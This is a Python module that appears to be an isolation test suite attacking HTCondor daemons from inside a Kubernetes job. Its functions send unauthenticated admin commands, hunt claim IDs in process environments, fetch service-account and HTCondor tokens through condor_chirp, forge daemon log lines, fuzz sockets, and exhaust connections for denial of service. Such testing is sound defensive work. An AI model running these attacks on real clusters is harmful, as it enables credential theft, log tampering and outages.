"""Attacks on HTCondor: its daemons, which a job can reach, the starter's sockets, what its ads tell."""

import os
import re
import socket
import struct
import subprocess
import time
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

from .network import listening, own_address
from .tools import attack, files_in, processes, text

METRICS = 9464
CLAIM = re.compile(rb"<[0-9][^>\s]*>#[0-9]{8,}#[0-9]+#(?!\.\.\.)")
"""With its secret part, which the public one has not: it lets one command the slot."""
TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
CHIRP = "/usr/libexec/condor/condor_chirp"


def ports() -> list[int]:
    """TCP ports of HTCondor's daemons: the master, the startd and, where this is a job, its starter have one each."""
    found = [port for address, port in listening() if port != METRICS and not address.startswith("127.")]
    assert len(found) >= (3 if "_CONDOR_JOB_AD" in os.environ else 2), (
        f"not all daemons listen ({found}), so this shows nothing"
    )
    return found


def daemons() -> list[str]:
    """Addresses of all that can be commanded."""
    return [f"<{own_address()}:{port}>" for port in ports()]


def abstract_names() -> list[str]:
    """Abstract sockets of the pod by which HTCondor's daemons could be reached, as they are behind a shared port."""
    listed = Path("/proc/net/unix").read_text(errors="replace")
    return sorted(set(re.findall(r"@([0-9a-f]{64}/\S+)", listed)))


@attack
def htcondors_daemons() -> list[str]:
    """Send administrative commands to all daemons: without a token they refuse them. The image has HTCondor's tools."""
    gained, said = [], ""
    for where in daemons():
        for tool in (
            ("condor_off", "-addr", where), ("condor_drain", "-addr", where), ("condor_reconfig", "-addr", where),
            ("condor_restart", "-addr", where), ("condor_vacate", "-addr", where), ("condor_fetchlog", where, "MASTER"),
            ("condor_config_val", "-addr", where, "-rset", "START = False"),
            ("condor_update_machine_ad", "-addr", where, "/dev/null"),
        ):  # fmt: skip
            code, words = _run(tool)
            said += words
            if code == 0 and not re.search("(?i)error|fail|can.t|denied|unable", words):
                gained.append(f"{' '.join(tool)}: {words[:100]}")
    assert re.search("(?i)authenticat|denied", said), f"no daemon has refused anything, so this shows nothing: {said}"
    return gained


@attack
def htcondors_levels() -> list[str]:
    """Ask each daemon for each authorization level: without a token it grants none, not even READ."""
    gained = []
    for where in daemons():
        for level in ("READ", "WRITE", "DAEMON", "ADMINISTRATOR", "NEGOTIATOR", "CONFIG"):
            code, words = _run(("condor_ping", "-address", where, "-quiet", level))
            if code == 0:
                gained.append(f"{level} at {where}: {words[:100]}")
    return gained


def _run(tool: tuple[str, ...]) -> tuple[int, str]:
    """Run one of HTCondor's tools: in a job without a configuration, as root with the pilot's own."""
    methods = {"_CONDOR_SEC_CLIENT_AUTHENTICATION_METHODS": "FS,IDTOKENS,CLAIMTOBE,ANONYMOUS", "_CONDOR_LOG": "/tmp"}
    config = "ONLY_ENV" if os.getuid() else "/run/k8spilot/condor/condor_config"
    settings = {"CONDOR_CONFIG": config, **(methods if os.getuid() else {})}
    try:
        done = subprocess.run(tool, capture_output=True, timeout=10, env={**os.environ, **settings})
    except (OSError, subprocess.TimeoutExpired) as error:
        return 1, str(error)
    return done.returncode, (done.stdout + done.stderr).decode(errors="replace")


@attack
def claims() -> list[str]:
    """Search sandboxes, command lines and environments for the claim id by which the schedd commands a slot."""
    around = Path(os.environ["_CONDOR_SCRATCH_DIR"]).parent
    gained, seen = [], False
    for path in [
        *files_in(str(around)),
        *(f"/proc/{pid}/{one}" for pid in processes() for one in ("cmdline", "environ")),
    ]:
        with suppress(OSError):
            data = Path(path).read_bytes() if "arsenal" not in path else b""
            seen = seen or b"PublicClaimId" in data
            if CLAIM.search(data):
                gained.append(path)
    assert seen, "the slot's ad was not found, so this shows nothing"
    return gained


@attack
def chirp() -> list[str]:
    """The starter's proxy, for a job's own files and attributes, reads them where the job was submitted."""
    gained = []
    for path in (TOKEN, "/proc/self/environ", "/run/k8spilot/condor/tokens.d/token", "/etc/condor/tokens-orig.d/token"):
        done = subprocess.run((CHIRP, "fetch", path, "fetched"), capture_output=True, timeout=20)
        with suppress(OSError):
            if done.returncode == 0 and re.search(b"POD_UID|K8SPILOT|eyJ", Path("fetched").read_bytes()):
                gained.append(path)
    known = subprocess.run((CHIRP, "get_job_attr", "Owner"), capture_output=True, timeout=20)
    assert known.stdout == b'"alice"\n', f"there is no proxy, so this shows nothing: {known}"
    address, port, _ = Path(os.environ["_CONDOR_CHIRP_CONFIG"]).read_text().split()
    with socket.create_connection((address, int(port)), timeout=3) as one, suppress(OSError):
        one.sendall(b"cookie 0000\nget_job_attr Owner\n")
        if b"alice" in one.recv(1000):
            gained.append("the proxy, without its cookie")
    return gained


# --- in a job of their own ---------------------------------------------------------------------------------------


def words_in_the_logs() -> list[str]:
    """Put text into the logs of daemons, as any client can: a request names a session that the daemon does not know."""
    end = "The STARTD (pid 1) exited with status 99 (daemon will not restart automatically)"
    for words in (end, f"x\n11/22/26 03:00:00.000 (pid:1) {end}", 'OfflineUniverses are now { "Docker" }'):
        for port in ports():
            with suppress(OSError), socket.create_connection((own_address(), port), timeout=3) as one:
                quoted = words.replace('"', '\\"')
                facts = {"UseSession": '"YES"', "Sid": f'"{quoted}"', "Command": "60011", "ResumeResponse": "true"}
                one.sendall(_packet(_number(60010) + _ad(facts)))
                one.recv(1000)
    return []


PASS_SOCK = 76
"""SHARED_PORT_PASS_SOCK (condor_commands.h): a descriptor for a daemon comes with it."""
LENGTHS = (8, 0xFFFFFFFF, 0)
"""Lengths in the header of a packet: a correct one, and two wrong ones."""


@attack
def nonsense_for_htcondors_daemons() -> list[str]:
    """Descriptors that are no sockets, and packets that are none, to all sockets of HTCondor: no daemon ends."""
    before = _pids_of_daemons()
    pipe, other = os.pipe()
    for name in abstract_names():
        with suppress(OSError), socket.socket(socket.AF_UNIX) as one:
            one.connect(f"\0{name}")
            one.sendall(_packet(_number(PASS_SOCK)))
            socket.send_fds(one, [b"\0"], [pipe])
            one.settimeout(2)
            one.recv(100)
    for end in (pipe, other):
        os.close(end)
    for port in ports():
        for length in LENGTHS:
            for command in (PASS_SOCK, 60010, 60011, 60000, 443, 404, -1, 2**62):
                with suppress(OSError), socket.create_connection((own_address(), port), timeout=2) as one:
                    one.sendall(b"\1" + struct.pack(">I", length) + _number(command) + b"\xff\0" * 2000)
        with suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            for packet in (b"", b"MaGic6.0" + b"\xff" * 900, _packet(_number(60011)), os.urandom(60_000)):
                one.sendto(packet, (own_address(), port))
    time.sleep(2)  # a daemon that has ended is started again 10 s later
    return [f"{name} {pid} has ended" for name, pid in before - _pids_of_daemons()]


def _pids_of_daemons() -> set[tuple[str, int]]:
    names = ("condor_master", "condor_startd", "condor_starter")
    found = {(name, pid) for pid in processes() if (name := text(pid, "comm").strip()) in names}
    assert {name for name, _ in found} == set(names), f"not all daemons are seen ({found}), so this shows nothing"
    return found


def silence_for_htcondors_daemons() -> list[str]:
    """Connections that say nothing, or less than they should, to all sockets of HTCondor's, until the job is ended."""
    held = []
    for name in abstract_names():
        for _ in range(3):
            held.append(one := socket.socket(socket.AF_UNIX))
            one.connect(f"\0{name}")
    for port in ports():
        for words in (b"", b"\1\0\0\0\10", _packet(_number(60010))[:-1], _packet(_number(60010))):
            for _ in range(60):
                held.append(one := socket.create_connection((own_address(), port), timeout=3))
                one.sendall(words)
    Path("held").write_text(str(len(held)))
    time.sleep(600)
    return []


def half_a_word_for_htcondors_daemons() -> list[str]:
    """The first byte of a packet on many connections: a daemon waits for a second for the others of each."""
    held = []
    for port in ports():
        for _ in range(400):
            with suppress(OSError):
                held.append(one := socket.create_connection((own_address(), port), timeout=0.1))
                one.send(b"\1")
    Path("held").write_text(str(len(held)))
    time.sleep(600)
    return []


def _packet(body: bytes) -> bytes:
    return b"\1" + struct.pack(">I", len(body)) + body


def _number(value: int) -> bytes:
    return struct.pack(">q", value)


def _text(words: str) -> bytes:
    return words.encode() + b"\0"


def _ad(facts: dict[str, str]) -> bytes:
    return _number(len(facts)) + b"".join(_text(f"{name} = {value}") for name, value in facts.items()) + _text("") * 2


def _sessions() -> Iterator[socket.socket]:
    """Connections to where the starter waits for sshd of condor_ssh_to_job, in the job's sandbox."""
    path = Path(os.environ["_CONDOR_SCRATCH_DIR"], ".docker_sock")
    end = time.monotonic() + 15
    while not path.exists():
        if time.monotonic() > end:
            raise TimeoutError("the starter has no socket here")
        time.sleep(0.05)
    while True:
        one = socket.socket(socket.AF_UNIX)
        one.connect(str(path))
        yield one


def _ask(one: socket.socket, size: int, command: bytes) -> None:
    for end in range(3):
        socket.send_fds(one, [b"\0"], [end])
    one.sendall(struct.pack(">I", size) + command)


def sessions_without_end() -> list[str]:
    """Each has a client in the pilot container, which takes memory there."""
    held = []
    for one, _ in zip(_sessions(), range(100), strict=False):
        held.append(one)
        _ask(one, 8, b"sleep 40")
    time.sleep(30)
    return []


def a_session_without_a_word() -> list[str]:
    """The starter waits for it, and does nothing else."""
    held = next(_sessions())
    time.sleep(300)
    held.close()
    return []


def a_session_of_four_gigabytes() -> list[str]:
    """The starter believes how long the command is to be."""
    one = next(_sessions())
    _ask(one, 0xFFFFFFFF, b"")
    time.sleep(60)
    return []
